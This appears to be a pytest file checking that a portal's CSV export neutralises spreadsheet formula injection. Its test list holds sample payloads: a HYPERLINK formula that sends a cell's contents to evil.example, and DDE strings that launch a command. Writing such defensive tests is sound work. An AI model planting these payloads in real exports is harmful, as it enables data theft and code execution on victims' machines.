"""CSV exports: a cell a spreadsheet would run as a formula is written as text (#8)."""

from __future__ import annotations

import csv
import io

import pytest

from citizens.models import Client, ClientKind
from portal.db import db
from portal.exports import safe_cell
from portal.models import Role

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_cells_that_start_a_formula_are_quoted(value):
    assert safe_cell(value) == "'" + value


def test_plain_cells_and_numbers_pass_unchanged():
    assert safe_cell("王小明") == "王小明"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-5) == -5 and safe_cell(3.5) == 3.5
    assert safe_cell(None) == ""
    assert safe_cell("-5") == "'-5"  # the accepted trade-off: a negative number as text


def test_client_export_neutralises_formula_names(client, login_as, database):
    with database.app_context():
        db.session.add_all(
            [Client(kind=ClientKind.CITIZEN, name=name, phone="13911112222") for name in DANGEROUS]
            + [Client(kind=ClientKind.CITIZEN, name="普通名字", phone="13911112223")]
        )
        db.session.commit()
    login_as(Role.CLERK)
    response = client.get("/clients/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")  # Excel needs the BOM to read Chinese
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    names = {row[2] for row in rows[1:]}
    assert names == {"'" + name for name in DANGEROUS} | {"普通名字"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_a_new_format_is_one_more_writer(app, monkeypatch):
    from portal.exports import WRITERS, Table, export_response

    class TabWriter:
        mimetype = "text/tab-separated-values"
        extension = "tsv"

        def write(self, table: Table) -> str:
            return "\n".join("\t".join(map(str, r)) for r in [table.columns, *table.rows])

    monkeypatch.setitem(WRITERS, "tsv", TabWriter())
    table = Table(["a", "b"], [[1, "=x"]])
    with app.test_request_context():
        response = export_response(table, "list", "tsv")
        assert response.get_data(as_text=True) == "a\tb\n1\t=x"
        assert response.headers["Content-Disposition"] == 'attachment; filename="list.tsv"'
        csv_body = export_response(Table(["a"], [["=x"]]), "list").get_data(as_text=True)
        assert csv_body == "\ufeffa\r\n'=x\r\n"
